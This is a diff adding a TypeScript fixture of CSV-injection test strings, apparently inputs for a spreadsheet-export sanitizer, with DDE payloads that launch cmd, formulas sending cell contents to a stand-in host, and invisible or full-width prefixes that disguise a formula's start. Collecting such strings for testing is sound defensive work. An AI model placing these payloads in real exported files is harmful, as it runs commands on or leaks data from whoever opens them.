@@ -1,0 +1,52 @@
+/**
+ * What spreadsheets have been made to run, written after OWASP's «CSV Injection» and CWE-1236: each a cell, harmless
+ * once it is text. `DISGUISED` begins with something that is not seen or that an import turns into a formula's start.
+ */
+export const FORMULAS: readonly string[] = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1+1)',
+  "=cmd|'/c calc'!A1",
+  "+cmd|'/c calc'!A1",
+  "-2+3+cmd|'/c calc'!D2",
+  "@SUM(1+9)*cmd|'/c calc'!A0",
+  '=HYPERLINK("http://example.invalid/?x="&A1,"点击查看")',
+  '=WEBSERVICE("http://example.invalid/"&A1)',
+  '=IMPORTXML("http://example.invalid/","//a")',
+  '=DDE("cmd","/c calc","x")',
+  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
+  '="a"&"b"',
+  '=',
+  '-',
+];
+
+export const DISGUISED: readonly string[] = [
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '\r\n=1+1',
+  ' =1+1',
+  '\u00a0=1+1',
+  '\u3000=1+1',
+  '\ufeff=1+1',
+  '\u200b=1+1',
+  '\u2060\u200d=1+1',
+  '\u202e=1+1',
+  '\u00ad=1+1',
+  '\u3164=1+1',
+  '\ue000=1+1',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+  '﹦1+1',
+  '⁼1+1',
+  '=\u03381',
+  '主办单位\n=1+1',
+  '主办单位\r\n\t＝1+1',
+  '主办单位\r=1+1',
+  '主办单位;=1+1',
+  '主办单位;\u3000@SUM(1)',
+  '";=1+1',
+];
